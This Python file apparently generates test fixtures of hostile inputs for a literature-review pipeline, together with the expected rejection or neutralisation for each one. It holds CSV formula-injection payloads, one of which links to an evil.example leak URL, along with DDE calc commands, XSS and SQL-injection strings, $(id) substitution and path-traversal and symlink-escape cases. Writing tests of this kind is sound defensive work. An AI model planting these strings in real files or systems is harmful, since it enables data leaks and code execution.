"""A generator of bad inputs of every kind a review reads, and what each must end as.

:func:`make_review` writes one review folder in which hundreds of independent bad entries
sit side by side (DOI lists, papers YAML, BibTeX, bibliographies, full texts, Scopus CSV,
RIS, unrecognised exports, bad paths), so that one Snakemake run checks them all; each
entry is a :class:`Case` naming the file and line that must show up either as a kept
record or as a row of results/problems.csv. :func:`stop_cases` are reviews that must stop
with one message (a broken review.yaml, a bad overrides file, nothing usable): each needs
its own run, but they stop before any stage. Grow the lists: every new hostile string
goes through every reader.
"""

from __future__ import annotations

import codecs
import json
from dataclasses import dataclass
from pathlib import Path

import yaml

#: Text a hostile or careless user may put anywhere: formulas (OWASP CSV injection),
#: markup, SQL, quotes, braces, every character ``str.splitlines`` breaks at, controls.
HOSTILE: list[str] = [
    '=HYPERLINK("http://evil.example/?leak","Click me")',
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1 after a tab",
    "=1+1",
    "+44 20 7946 0958 looks like a number",
    "-- a dash first",
    "@handle of someone",
    "<script>alert(1)</script> & ]]> <![CDATA[",
    "Robert'); DROP TABLE works;--",
    "x' OR '1'='1",
    'a "double" quote, and a comma',
    "line\x0bwith a vertical tab",
    "form\x0cfeed inside",
    "next\x85line (NEL) inside",
    "line\u2028separator inside",
    "paragraph\u2029separator inside",
    "\u202eright-to-left override",
    "zero\u200bwidth space",
    "emoji 🦜 and CJK 中文 and Cyrillic Щ",
    "x" * 3000,
    "%s %d {0} ${HOME} $(id) `id`",
    "../../../etc/passwd",
]
#: Formula starts that must never begin a CSV cell.
FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")


@dataclass
class Case:
    """One bad entry: the file:line it must be accounted for at, and what it is."""

    kind: str
    origin: str  # "refs/x.txt:3" (a whole file: "refs/x.txt")
    note: str
    kept: bool = False  # expected in the results (text neutralised), not as a problem


def _lines(name: str, texts: list[str], kind: str, kept: bool) -> list[Case]:
    return [Case(kind, f"{name}:{i}", repr(t)[:60], kept) for i, t in enumerate(texts, start=1)]


def _doi_list(refs: Path) -> list[Case]:
    lines = [*HOSTILE]
    lines += [
        "10.1000/nul\x00byte",
        "https://doi.org/10.1000/x%2Fy%00",
        "10.1000/a\x0bb",
        "10.1000/a\x1fb",
        "doi:",
        "10./x",
        "10.1000/",
        "https://doi.org/",
        "not a doi at all",
        "1O.1000/letter-O",
    ]
    (refs / "dois.txt").write_bytes("\n".join(lines).encode("utf-8") + b"\n")
    cases = _lines("refs/dois.txt", lines, "doi list", kept=False)
    # a DOI list in Latin-1 with CRLF and a lone CR: every line still numbered right
    latin = b"10.1000/caf\xe9\r\n10.1000/good.one\rnonsense \xff\n"
    (refs / "latin1-dois.txt").write_bytes(latin)
    cases += [
        Case("doi list bytes", "refs/latin1-dois.txt:1", "Latin-1 byte in a DOI"),
        Case("doi list bytes", "refs/latin1-dois.txt:2", "good DOI after CRLF", kept=True),
        Case("doi list bytes", "refs/latin1-dois.txt:3", "after a lone CR, bad byte"),
    ]
    # UTF-16 with BOM: read, not refused
    (refs / "utf16-dois.txt").write_bytes(
        codecs.BOM_UTF16_LE + "10.1000/utf16\n".encode("utf-16-le")
    )
    cases.append(Case("doi list utf-16", "refs/utf16-dois.txt:1", "UTF-16 LE BOM", kept=True))
    return cases


def _papers_yaml(refs: Path) -> tuple[list[Case], str]:
    """papers.yaml text (items one per block, so each item's line is known) and cases."""
    (refs / "bib").mkdir(exist_ok=True)
    (refs / "bib" / "folder.txt").mkdir(exist_ok=True)
    outside = refs.parent.parent / "outside-secret.txt"
    outside.write_text("root:x:0:0:root:/root:/bin/bash\n", encoding="utf-8")
    link = refs / "bib" / "link-out.txt"
    if not link.is_symlink():
        link.symlink_to(outside)
    items: list[tuple[dict | str, str, bool]] = []
    for i, text in enumerate(HOSTILE):
        items.append(({"key": f"title{i}", "title": text}, "hostile title", True))
        items.append(
            (
                {"key": f"auth{i}", "title": f"Authors {i}", "authors": [text]},
                "hostile author",
                True,
            )
        )
    bad = [
        ({"key": "=cmd", "title": "formula key"}, "formula key"),
        (
            {"key": "a" * 240, "title": "periodic key", "bibliography": "refs/bib/ok.txt"},
            "periodic key",
        ),
        ({"key": "ab" * 60, "title": "long key", "bibliography": "refs/bib/ok.txt"}, "long key"),
        ({"key": "has space", "title": "x"}, "key with a space"),
        ({"key": "nodoi-notitle"}, "no title nor doi"),
        ({"key": "nuldoi", "doi": "10.1000/nul\x00byte"}, "NUL in DOI"),
        ({"key": "baddoi", "doi": "=HYPERLINK(1)"}, "formula DOI"),
        ({"key": "badyear", "title": "t", "year": "=1+1"}, "formula year"),
        ({"key": "bigyear", "title": "t", "year": 99999}, "year out of range"),
        ({"key": "unknown", "title": "t", "evil": "=1"}, "unknown field"),
        ({"key": "authtype", "title": "t", "authors": {"a": 1}}, "authors a mapping"),
        ("just a string", "item not a mapping"),
        ({"key": "abs", "title": "t", "bibliography": str(outside)}, "bibliography absolute path"),
        (
            {"key": "dotdot", "title": "t", "bibliography": "../outside-secret.txt"},
            "bibliography '..'",
        ),
        (
            {"key": "symlink", "title": "t", "bibliography": "refs/bib/link-out.txt"},
            "bibliography symlink out",
        ),
        (
            {"key": "missing", "title": "t", "bibliography": "refs/bib/missing.txt"},
            "bibliography missing",
        ),
        (
            {"key": "folder", "title": "t", "bibliography": "refs/bib/folder.txt"},
            "bibliography a folder",
        ),
        (
            {"key": "nulpath", "title": "t", "bibliography": "refs/bib/a\x00b.txt"},
            "bibliography NUL",
        ),
    ]
    items += [(item, note, False) for item, note in bad]
    blocks, cases, line = [], [], 1
    for item, note, kept in items:
        block = yaml.safe_dump([item], allow_unicode=False, width=10_000)
        blocks.append(block)
        cases.append(Case("papers yaml", f"refs/papers.yaml:{line}", note, kept))
        line += block.count("\n")
    # a lone surrogate escape in a title: replaced and reported, the paper kept
    blocks.append('- key: surrogate\n  title: "bad \\uD800 escape"\n')
    cases.append(Case("papers yaml", f"refs/papers.yaml:{line}", "lone surrogate", True))
    return cases, "".join(blocks)


def _bibtex(refs: Path) -> list[Case]:
    entries, cases, line = [], [], 1
    for i, text in enumerate(HOSTILE):
        safe = text.replace("{", "").replace("}", "").replace("\\", "")
        entry = (
            f"@article{{bt{i},\n  title = {{{safe}}},\n  author = {{{safe}}},\n  year = 2001\n}}\n"
        )
        entries.append(entry)
        cases.append(Case("bibtex", f"refs/seeds.bib:{line}", f"hostile {safe[:30]!r}", True))
        line += entry.count("\n")
    broken = [
        "@article{unbalanced,\n  title = {never closed,\n  year = 2001\n",
        "@article{,\n  title = {no key}\n}\n",
        "@article{baddoi,\n  title = {t},\n  doi = {10.1000/nul\x00x}\n}\n",
    ]
    for entry in broken:
        entries.append(entry)
        cases.append(Case("bibtex", f"refs/seeds.bib:{line}", entry[:30]))
        line += entry.count("\n")
    (refs / "seeds.bib").write_text("".join(entries), encoding="utf-8")
    (refs / "latin1.bib").write_bytes(b"@article{latin,\n  title = {Caf\xe9},\n  year = 2001\n}\n")
    cases.append(Case("bibtex bytes", "refs/latin1.bib:2", "Latin-1 byte in a title"))
    cases.append(Case("bibtex bytes", "refs/latin1.bib:1", "entry kept", True))
    return cases


def _bibliographies(refs: Path) -> list[Case]:
    lines = [*HOSTILE, "Plain, A. (2001). A plain reference. Journal, 1, 1-2."]
    text = "# key: biblio\n" + "\n".join(lines) + "\n"
    (refs / "bib" / "biblio.txt").write_text(text, encoding="utf-8")
    cases = [
        Case("bibliography", f"refs/bib/biblio.txt:{i}", repr(t)[:60], True)
        for i, t in enumerate(lines, start=2)
    ]
    (refs / "bib" / "ok.txt").write_text("Ok, A. (2000). Fine. J, 1, 1.\n", encoding="utf-8")
    data = b"Good, A. (2001). Fine. J, 1, 1.\r\n"
    data += b"Bad, B. (2002). Caf\xe9 \xff. J, 2, 2.\rThird, C. (2003). T. J, 3, 3.\n"
    (refs / "bib" / "latin1.txt").write_bytes(data)
    cases += [
        Case("bibliography bytes", "refs/bib/latin1.txt:2", "bad bytes reported"),
        Case("bibliography bytes", "refs/bib/latin1.txt:3", "line after CR kept", True),
    ]
    return cases


def _fulltext(refs: Path) -> list[Case]:
    text = "As Waltz (1979) argued, =cmd (Walt, 2005).\nCaf\xe9 (Paul, 2005).\n"
    (refs / "texts").mkdir(exist_ok=True)
    (refs / "texts" / "paper.txt").write_bytes(text.encode("utf-8").replace(b"\xc3\xa9", b"\xe9"))
    (refs / "texts" / "orphan.txt").write_text("As Waltz (1979) argued.\n", encoding="utf-8")
    return [
        Case("full text bytes", "refs/texts/paper.txt:2", "Latin-1 byte in a full text"),
        Case("full text", "refs/texts/orphan.txt", "text of a paper not in the review"),
        Case("full text", "refs/texts/missing.txt", "full text missing"),
        Case("full text", "/etc/hostname", "full text outside"),
    ]


SCOPUS_HEADER = (
    "Authors,Title,Year,Source title,Volume,Issue,Page start,Page end,DOI,Link,References,EID"
)


def _scopus(refs: Path) -> list[Case]:
    def row(title: str, eid: str, references: str = "") -> str:
        cells = ["Doe J.", title, "2001", "J", "1", "1", "1", "2", "", "", references, eid]
        return ",".join('"' + c.replace('"', '""') + '"' for c in cells)

    rows, cases = [SCOPUS_HEADER], []
    for i, text in enumerate(HOSTILE):
        rows.append(row(text.replace("\r", " "), f"2-s2.0-{i:011d}"))
        cases.append(Case("scopus", f"refs/exports/scopus.csv:{len(rows)}", repr(text)[:40], True))
    many = "; ".join(
        f"Author{i}, A., Reference title number {i} on balancing, (2001)" for i in range(2500)
    )
    assert len(many) > 131_072
    rows.append(row("A review with a huge References cell", "2-s2.0-99999999999", many))
    cases.append(
        Case("scopus", f"refs/exports/scopus.csv:{len(rows)}", "References > 131,072", True)
    )
    rows.append('"only","three","cells"')
    cases.append(Case("scopus", f"refs/exports/scopus.csv:{len(rows)}", "short row"))
    (refs / "exports").mkdir(exist_ok=True)
    (refs / "exports" / "scopus.csv").write_text("\n".join(rows) + "\n", encoding="utf-8")
    return cases


def _ris(refs: Path) -> list[Case]:
    records, cases, line = [], [], 1
    for text in HOSTILE:
        flat = text.replace("\r", " ").replace("\n", " ")
        record = f"TY  - JOUR\nTI  - {flat}\nAU  - {flat[:40]}\nPY  - 2001\nER  - \n\n"
        records.append(record)
        cases.append(Case("ris", f"refs/exports/records.ris:{line}", repr(text)[:40], True))
        line += record.count("\n")
    (refs / "exports" / "records.ris").write_text("".join(records), encoding="utf-8")
    return cases


def _bad_files(refs: Path) -> list[Case]:
    exports = refs / "exports"
    (exports / "unknown.txt").write_text("this is no export\nat all\n", encoding="utf-8")
    (exports / "empty.csv").write_bytes(b"")
    (exports / "binary.dat").write_bytes(bytes(range(256)) * 4)
    (exports / "folder.csv").mkdir(exist_ok=True)
    return [
        Case("export", "refs/exports/unknown.txt:1", "unrecognised export"),
        Case("export", "refs/exports/empty.csv:1", "empty export"),
        Case("export", "refs/exports/binary.dat:1", "binary export"),
        Case("path", "refs/exports/folder.csv", "export that is a folder"),
        Case("path", "refs/missing-dois.txt", "DOI list missing"),
        Case("path", "/etc/hostname", "DOI list outside (absolute)"),
        Case("path", "../outside-secret.txt", "DOI list outside ('..')"),
        Case("path", "refs/bib/link-out.txt", "BibTeX through a symlink out"),
    ]


def make_review(folder: Path) -> list[Case]:
    """Write the bad review into ``folder`` (offline); the cases it holds."""
    refs = folder / "refs"
    refs.mkdir(parents=True, exist_ok=True)
    cases = _doi_list(refs)
    paper_cases, papers_text = _papers_yaml(refs)
    cases += paper_cases
    cases += _bibtex(refs)
    cases += _bibliographies(refs)
    cases += _fulltext(refs)
    cases += _scopus(refs)
    cases += _ris(refs)
    cases += _bad_files(refs)
    papers_text += "- key: biblio\n  title: The paper with the hostile bibliography\n"
    papers_text += "  bibliography: refs/bib/biblio.txt\n"
    papers_text += (
        "- key: latinbib\n  title: Latin-1 bibliography\n  bibliography: refs/bib/latin1.txt\n"
    )
    (refs / "papers.yaml").write_text(papers_text, encoding="utf-8")
    review = {
        "name": "bad inputs",
        "inputs": {
            "papers": ["refs/papers.yaml"],
            "dois": [
                "refs/dois.txt",
                "refs/latin1-dois.txt",
                "refs/utf16-dois.txt",
                "refs/missing-dois.txt",
                "/etc/hostname",
                "../outside-secret.txt",
            ],
            "bibtex": ["refs/seeds.bib", "refs/latin1.bib", "refs/bib/link-out.txt"],
            "fulltext": [
                {"paper": "auth0", "path": "refs/texts/paper.txt"},
                {"paper": "nobody", "path": "refs/texts/orphan.txt"},
                {"paper": "title1", "path": "refs/texts/missing.txt"},
                {"paper": "title2", "path": "/etc/hostname"},
            ],
            "exports": [
                "refs/exports/scopus.csv",
                "refs/exports/records.ris",
                "refs/exports/unknown.txt",
                "refs/exports/empty.csv",
                "refs/exports/binary.dat",
                "refs/exports/folder.csv",
            ],
        },
        "sources": {"offline": True},
    }
    (refs / "review.yaml").write_text(json.dumps(review, indent=1), encoding="utf-8")
    return cases


def stop_cases() -> dict[str, tuple[dict[str, bytes], str]]:
    """name -> (files to write, text the one message must hold) for reviews that stop."""
    good = b"name: stop\ninputs:\n  dois: [refs/dois.txt]\nsources:\n  offline: true\n"
    dois = {"refs/dois.txt": b"10.1000/fine\n"}

    def review(extra: bytes = b"", base: bytes = good) -> dict[str, bytes]:
        return {"refs/review.yaml": base + extra, **dois}

    return {
        "review not UTF-8": (
            review(base=good.replace(b"stop", b"st\xe9p")),
            "refs/review.yaml:1: bytes that are not UTF-8",
        ),
        "review bad YAML": (review(b"  : [unclosed\n"), "refs/review.yaml: not valid YAML"),
        "review a list": (review(base=b"- a\n- b\n"), "expected a mapping of settings"),
        "review surrogate": (
            review(base=good.replace(b"name: stop", b'name: "\\uD800"')),
            "holds a lone surrogate",
        ),
        "review wrong type": (review(b"graphs:\n  top_k: many\n"), "setting 'graphs/top_k'"),
        "review unknown setting": (review(b"evil: 1\n"), "Additional properties are not allowed"),
        "cache is a file": (
            review(base=good.replace(b"offline: true", b"offline: true\n  cache: refs/dois.txt")),
            "setting 'sources/cache'",
        ),
        "overrides a folder": (
            {**review(b"match:\n  overrides: refs\n")},
            "overrides file is a folder",
        ),
        "overrides missing": (
            {**review(b"match:\n  overrides: refs/none.csv\n")},
            "overrides file not found",
        ),
        "overrides outside": (
            {**review(b"match:\n  overrides: /etc/hostname\n")},
            "overrides file is outside the review folder",
        ),
        "overrides bad action": (
            {
                **review(b"match:\n  overrides: refs/o.csv\n"),
                "refs/o.csv": b"action,a,b\nmerge,x,y\n",
            },
            "refs/o.csv:2: action must be 'same' or 'different'",
        ),
        "overrides no column": (
            {**review(b"match:\n  overrides: refs/o.csv\n"), "refs/o.csv": b"what,a\nsame,x\n"},
            "missing column(s)",
        ),
        "overrides not UTF-8": (
            {
                **review(b"match:\n  overrides: refs/o.csv\n"),
                "refs/o.csv": b"action,a,b\nsame,caf\xe9,y\n",
            },
            "refs/o.csv:2",
        ),
        "nothing usable": (
            {"refs/review.yaml": good, "refs/dois.txt": b"nonsense\n=1+1\n"},
            "no usable review paper: all 2 input entries",
        ),
    }


def formula_cells(path: Path) -> list[str]:
    """Cells of a CSV file that a spreadsheet would run as formulas (numbers excepted)."""
    import csv

    csv.field_size_limit(2**31 - 1)
    found = []
    with path.open(encoding="utf-8", newline="") as fh:
        for row in csv.reader(fh):
            for cell in row:
                if cell.startswith(FORMULA_STARTS) and not _number(cell):
                    found.append(cell[:60])
    return found


def _number(cell: str) -> bool:
    try:
        float(cell)
    except ValueError:
        return False
    return True


if __name__ == "__main__":  # write the bad review somewhere to look at it
    import sys

    target = Path(sys.argv[1] if len(sys.argv) > 1 else "bad-review")
    made = make_review(target)
    print(f"{len(made)} cases in {target}; {len(stop_cases())} stop cases", file=sys.stderr)
    sys.exit(0)
